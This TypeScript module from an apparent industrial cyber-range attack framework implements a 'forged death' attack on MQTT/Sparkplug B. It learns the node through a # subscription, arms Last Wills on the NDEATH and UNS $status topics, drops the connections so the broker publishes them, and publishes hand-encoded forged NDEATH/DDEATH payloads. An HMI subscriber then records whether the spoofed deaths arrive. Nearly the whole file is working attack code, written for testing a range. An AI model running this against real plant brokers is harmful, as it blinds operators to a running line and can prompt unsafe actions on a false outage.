/**
 * Forged death over MQTT: make the line's Sparkplug node (or its unified namespace) look dead
 * while it runs. The attacker learns the node from a `#` subscription, connects with a Last
 * Will on the node's NDEATH topic (and one on the UNS `$status`) and drops the connection
 * without a DISCONNECT, so the broker itself would publish the death; then it publishes a
 * forged NDEATH and DDEATH directly. A subscriber of the range (an HMI) listens for any of
 * them while the line keeps producing.
 */
import { randomBytes } from 'node:crypto';
import type { MqttClient } from 'mqtt';
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { now, trail } from './common.ts';
import { rangeClient } from './mqtt-range.ts';

const SPB = 'spBv1.0';
/** how long the range's subscriber waits for a death after the last attempt [ms] */
const SETTLE_MS = 1500;

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** A protobuf varint. */
function varint(n: number): number[] {
  const out: number[] = [];
  let v = BigInt(n);
  do {
    let b = Number(v & 0x7fn);
    v >>= 7n;
    if (v > 0n) b |= 0x80;
    out.push(b);
  } while (v > 0n);
  return out;
}

/**
 * A Sparkplug B death payload: timestamp and the `bdSeq` metric (Int64), protobuf-encoded by
 * hand (Payload.timestamp = 1, Payload.metrics = 2; Metric.name = 1, datatype = 4, long_value = 11).
 */
export function deathPayload(bdSeq: number, at = Date.now()): Buffer {
  const name = Buffer.from('bdSeq', 'utf8');
  const metric = Buffer.from([0x0a, name.length, ...name, 0x20, 4, 0x58, ...varint(bdSeq)]);
  return Buffer.from([0x08, ...varint(at), 0x12, metric.length, ...metric]);
}

/** The twin's Sparkplug node (group, edge) and a device of the station, learnt from topic names. */
function sparkplugNode(topics: Iterable<string>, station: string): { group: string; edge: string; device: string | null } | null {
  let found: { group: string; edge: string; device: string | null } | null = null;
  for (const t of topics) {
    const p = t.split('/');
    if (p[0] !== SPB || p.length < 4 || p[1] === 'STATE') continue;
    const device = p[2] === 'DDATA' || p[2] === 'DBIRTH' ? (p[4] ?? null) : null;
    if (found === null) found = { group: p[1]!, edge: p[3]!, device };
    if (device === station) return { group: p[1]!, edge: p[3]!, device };
    if (found.device === null && device !== null) found.device = device;
  }
  return found;
}

export const mqttForgedDeath: Attack = {
  id: 'mqtt-forged-death',
  title: 'MQTT forged death: a Last Will or a published NDEATH/DDEATH on the twin\'s Sparkplug node while it runs',
  techniques: [T.spoofReportingMessage, T.manipulationOfView],
  face: 'mqtt',
  preconditions: ['a connection to the broker (anonymous, or an account the attacker holds)', 'the Sparkplug node and UNS prefix (learnt from a # subscription)'],
  steps: [
    'CONNECT and SUBSCRIBE # to learn the Sparkplug group, edge node and device, and the UNS prefix',
    'CONNECT with a Last Will on spBv1.0/<group>/NDEATH/<edge>, drop the TCP connection without DISCONNECT',
    'CONNECT with a retained Last Will {"online":false} on <prefix>/$status, drop it likewise',
    'PUBLISH a forged NDEATH, then a DDEATH of the station\'s device',
    'a subscriber of the range (an HMI) reports any death it received while the line ran',
  ],
  expectedImpact: 'host applications and HMIs mark the line\'s node (and its devices) offline and their values stale while the line runs: operators lose their view or act on a false outage',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { listen, mqttClose, mqttConnect, publish } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const station = ctx.station.toLowerCase();
    const tag = randomBytes(3).toString('hex');
    const hmi = await rangeClient(ctx, evidence, 'viewer', `range-hmi-${tag}`);
    ctx.atEnd(() => mqttClose(hmi?.client ?? null));
    const deaths: string[] = [];
    hmi?.client.on('message', (topic, payload, packet) => {
      const p = topic.split('/');
      const death = (p[0] === SPB && (p[2] === 'NDEATH' || p[2] === 'DDEATH')) || (topic.endsWith('/$status') && !packet.retain && /"online":\s*false/.test(payload.toString('utf8')));
      if (death && deaths.length < 20) deaths.push(`${topic}${packet.retain ? ' (retained)' : ''}`);
    });
    await hmi?.client.subscribeAsync([`${SPB}/+/NDEATH/+`, `${SPB}/+/DDEATH/+/+`, '+/+/+/+/$status']).catch(() => undefined);

    const spy = await mqttConnect(ctx, evidence);
    const attempts: Record<string, string> = {};
    let prefix: string | null = null;
    if (spy !== null) {
      const learnt = await listen(spy, station, 2500, false);
      prefix = learnt.prefix;
      const node = sparkplugNode(learnt.topics.keys(), station);
      await mqttClose(spy);
      evidence.push(`MQTT: learnt UNS prefix ${prefix ?? '(none)'}, Sparkplug node ${node === null ? '(none)' : `${node.group}/${node.edge}${node.device === null ? '' : `, device ${node.device}`}`}`);
      const ndeath = node === null ? null : `${SPB}/${node.group}/NDEATH/${node.edge}`;
      const wills: { topic: string; payload: Buffer; retain: boolean }[] = [];
      if (ndeath !== null) wills.push({ topic: ndeath, payload: deathPayload(0), retain: false });
      if (prefix !== null) wills.push({ topic: `${prefix}/$status`, payload: Buffer.from('{"online":false}'), retain: true });
      for (const w of wills) {
        const c = await mqttConnect(ctx, evidence, { will: { ...w, qos: 1 } });
        if (c === null) {
          attempts[`will ${w.topic}`] = 'refused at CONNECT';
          continue;
        }
        // a dropped connection, not a DISCONNECT: the broker publishes the will
        (c as MqttClient & { stream: { destroy(): void } }).stream.destroy();
        await mqttClose(c);
        attempts[`will ${w.topic}`] = 'armed; connection dropped';
        if (w.retain) ctx.memo.set('retained-status', w.topic);
      }
      const direct: string[] = [];
      if (ndeath !== null) direct.push(ndeath);
      if (node !== null && node.device !== null) direct.push(`${SPB}/${node.group}/DDEATH/${node.edge}/${node.device}`);
      for (const topic of direct) {
        const c = await mqttConnect(ctx, []);
        // QoS 1 tells an accepted publish from one the broker answers by closing the connection
        const r = c === null ? 'no connection' : await publish(c, topic, deathPayload(0));
        await mqttClose(c);
        attempts[`publish ${topic}`] = r;
        evidence.push(`MQTT: PUBLISH ${topic} → ${r}`);
      }
    }
    await sleep(SETTLE_MS);
    const s = await now(ctx);
    for (const d of deaths) evidence.push(`range: its HMI received a death on ${d}`);
    if (hmi !== null && deaths.length === 0) evidence.push('range: its HMI received no death');
    if (s !== null) evidence.push(`range: ${ctx.station} is ${s.state} (the line runs)`);
    const refusedSeen = Object.values(attempts).some((v) => v !== 'acked' && v !== 'armed; connection dropped') || spy === null;
    await trail(ctx, evidence, refusedSeen);
    return {
      outcome: deaths.length > 0 ? 'succeeded' : 'blocked',
      evidence,
      impact: { attempts, deathsSeen: deaths, stationState: s?.state ?? null, observedBy: hmi === null ? null : hmi.who },
    };
  },
  async cleanup(ctx) {
    const topic = ctx.memo.get('retained-status');
    // the twin republishes its status only when it reconnects: say so rather than forge another value
    if (typeof topic === 'string') ctx.log(`cleanup: a will was armed on ${topic}; if the broker published it, the retained offline status stays until the twin reconnects`);
  },
};
